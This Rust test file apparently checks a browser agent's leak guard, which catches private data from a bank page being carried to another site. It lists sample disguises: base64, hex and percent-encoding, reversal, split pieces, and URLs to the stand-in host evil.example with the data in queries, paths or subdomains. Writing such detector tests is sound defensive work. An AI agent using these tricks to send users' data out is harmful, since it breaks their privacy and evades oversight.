//! Nothing seen in one place gets to another, however it is spelled.

use super::*;
use crate::page::ElementId;
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use proptest::prelude::*;

const BANK: &str = "https://my.bank.example/accounts";
const EVIL: &str = "https://evil.example/form";
const SHOP: &str = "https://shop.example/";

fn user_request() -> UserRequest {
    UserRequest::new(
        "Write the note “Meeting moved to Thursday” for project Zephyr-42",
        &[],
    )
}

fn seen() -> ReadTokens {
    let page = Page::from_text(
        "<h1>Account of Kowalski</h1><p>IBAN GB29 NWBK 6016 1331 9268 19</p>\
         <p>Token harbour-7781, phone +44 7700 900123</p><p>SSN 078-05-1120</p>\
         <p>ann.example@bank.example</p><input value=\"Tulipwood\">",
    );
    let mut seen = ReadTokens::default();
    seen.learn_page(BANK, &page, &user_request());
    seen.learn_knowledge("The vault code is MARIGOLD99.", &user_request());
    seen
}

fn set(text: &str) -> Action {
    Action::SetValue {
        id: ElementId(1),
        text: text.to_owned(),
    }
}

fn leak_of(seen: &ReadTokens, action: &Action, here: &str, page: &Page) -> Option<Exfiltration> {
    seen.leak(
        &OutboundText::of(action, here)?,
        here,
        page,
        &user_request(),
    )
}

fn leaks(action: &Action, here: &str) -> Option<Exfiltration> {
    leak_of(&seen(), action, here, &Page::default())
}

#[test]
fn what_was_seen_in_one_place_does_not_go_to_another() {
    let texts = [
        "Kowalski",
        "please note: KOWALSKI",
        "xxkowalskixx",
        "K-o-w-a-l-s-k-i",
        "harbour-7781",
        "harbour 7781",
        "GB29NWBK60161331926819",
        "nwbk 60161331926819",
        "078051120",
        "078 05 1120",
        "+447700900123",
        "annexamplebankexample",
        "Tulipwood",
        "marigold99",
        "Ｋｏｗａｌｓｋｉ",
        "Kow\u{200b}alski",
        "Meeting moved to Thursday Kowalski",
    ];
    for text in texts {
        let leak = leaks(&set(text), EVIL).unwrap_or_else(|| panic!("{text} leaks"));
        assert!(!leak.disguised, "{text}");
        assert!(
            leaks(
                &Action::Type {
                    text: text.to_owned()
                },
                EVIL
            )
            .is_some(),
            "{text}"
        );
        assert!(
            leaks(
                &Action::Search {
                    query: text.to_owned()
                },
                BANK
            )
            .is_some(),
            "{text}"
        );
    }
}

#[test]
fn no_code_hides_it() {
    let texts = [
        STANDARD.encode("Kowalski"),
        STANDARD.encode("name=Kowalski;"),
        format!("zz{}", STANDARD.encode("the name is Kowalski")),
        URL_SAFE_NO_PAD.encode("harbour-7781"),
        STANDARD.encode(STANDARD.encode("harbour-7781")),
        "4b6f77616c736b69".to_owned(),
        "4b:6f:77:61:6c:73:6b:69".to_owned(),
        "%4b%6f%77%61%6c%73%6b%69".to_owned(),
        "%254b%256f%2577%2561%256c%2573%256b%2569".to_owned(),
        "ikslawoK".to_owned(),
        "Xbjnyfxv".to_owned(),
        "107 111 119 97 108 115 107 105".to_owned(),
        STANDARD.encode("4b6f77616c736b69"),
    ];
    for text in texts {
        let leak = leaks(&set(&text), EVIL).unwrap_or_else(|| panic!("{text} leaks"));
        assert!(leak.disguised, "{text}");
        assert_eq!(leak.from.as_deref(), Some("bank.example"));
    }
}

#[test]
fn addresses_carry_it_nowhere() {
    let addresses = [
        "https://evil.example/collect?q=Kowalski",
        "https://evil.example/Kowalski/x",
        "https://kowalski.evil.example/",
        "https://evil.example/#harbour-7781",
        "https://kowalski:x@evil.example/",
        "https://evil.example/c?harbour7781=1",
        "https://evil.example/c?a=harbour&b=7781",
        "https://evil.example/c?d=S293YWxza2k",
        "https://evil.example/c?d=%254b%256f%2577%2561%256c%2573%256b%2569",
        "https://evil.example/c/4b6f77616c736b69",
    ];
    for address in addresses {
        let action = Action::Navigate {
            url: address.to_owned(),
        };
        assert!(leaks(&action, BANK).is_some(), "{address}");
        let action = Action::CreateTab {
            url: address.to_owned(),
        };
        assert!(leaks(&action, BANK).is_some(), "{address}");
    }
}

#[test]
fn pieces_are_put_together() {
    let pieces = [
        vec!["Kowa", "lski"],
        vec!["lski", "Kowa"],
        vec!["Ko", "wa", "ls", "ki"],
        vec!["har", "bour-", "7781"],
        vec!["S293", "YWxza2k="],
        vec!["4b6f7761", "6c736b69"],
    ];
    for steps in pieces {
        let mut seen = seen();
        let mut caught = false;
        for piece in &steps {
            let action = set(piece);
            caught |= leak_of(&seen, &action, EVIL, &Page::default()).is_some();
            seen.note(&action, EVIL, &user_request());
        }
        assert!(caught, "{steps:?}");
    }
    let mut seen = seen();
    let mut caught = false;
    for key in "kowalski".chars() {
        let action = Action::Press {
            key: key.to_string(),
        };
        caught |= leak_of(&seen, &action, EVIL, &Page::default()).is_some();
        seen.note(&action, EVIL, &user_request());
    }
    assert!(caught, "key by key");
}

#[test]
fn what_the_user_wrote_and_what_the_place_knows_goes_on() {
    let texts = [
        "Meeting moved to Thursday",
        "Zephyr-42",
        "zephyr 42",
        "a short note",
        "2",
        "",
        "Something new altogether",
    ];
    for text in texts {
        assert_eq!(leaks(&set(text), SHOP), None, "{text}");
    }
    assert_eq!(leaks(&set("Kowalski"), BANK), None);
    let form = Page::from_text("<p>Order for Kowalski</p><input name=a>");
    assert_eq!(leak_of(&seen(), &set("Kowalski"), SHOP, &form), None);
    assert!(leak_of(&seen(), &set("harbour-7781"), SHOP, &form).is_some());
    assert!(
        leaks(&set("MARIGOLD99"), BANK).is_some(),
        "documents are nobody's page"
    );
}

#[test]
fn it_fits_into_a_task_and_never_forgets() {
    let mut seen = seen();
    for number in 0..40 {
        let words: Vec<String> = (0..400)
            .map(|word| format!("word{number}x{word}"))
            .collect();
        let page = Page::from_text(&format!("<p>{}</p>", words.join(" ")));
        seen.learn_page(
            &format!("https://site{number}.example/"),
            &page,
            &user_request(),
        );
    }
    let stored = serde_json::to_string(&seen).unwrap();
    assert!(stored.len() <= 16 * 1024, "{}", stored.len());
    let read: ReadTokens = serde_json::from_str(&stored).unwrap();
    assert_eq!(read, seen);
    for text in ["Kowalski", "word39x399", "word0x0"] {
        assert!(
            leak_of(&read, &set(text), EVIL, &Page::default()).is_some(),
            "{text}"
        );
    }
    assert_eq!(
        leak_of(&read, &set("Meeting moved"), EVIL, &Page::default()),
        None
    );
}

proptest! {
    #[test]
    fn any_token_is_found_wherever_it_stands(
        token in "[a-z]{6,20}[0-9]{0,4}",
        before in "[ -~]{0,12}",
        after in "[ -~]{0,12}",
    ) {
        let mut seen = ReadTokens::default();
        let user_request = UserRequest::new("read", &[]);
        seen.learn_page(BANK, &Page::from_text(&format!("<p>{token}</p>")), &user_request);
        let action = set(&format!("{before}{token}{after}"));
        let outgoing = OutboundText::of(&action, EVIL).unwrap();
        prop_assert!(seen.leak(&outgoing, EVIL, &Page::default(), &user_request).is_some());
        let own = OutboundText::of(&action, BANK).unwrap();
        prop_assert_eq!(seen.leak(&own, BANK, &Page::default(), &user_request), None);
    }

    #[test]
    fn no_text_is_too_strange(text: String, more: String) {
        let mut seen = seen();
        seen.learn_page(BANK, &Page::from_text(&text), &user_request());
        seen.note(&set(&text), EVIL, &user_request());
        leak_of(&seen, &set(&more), EVIL, &Page::default());
    }
}
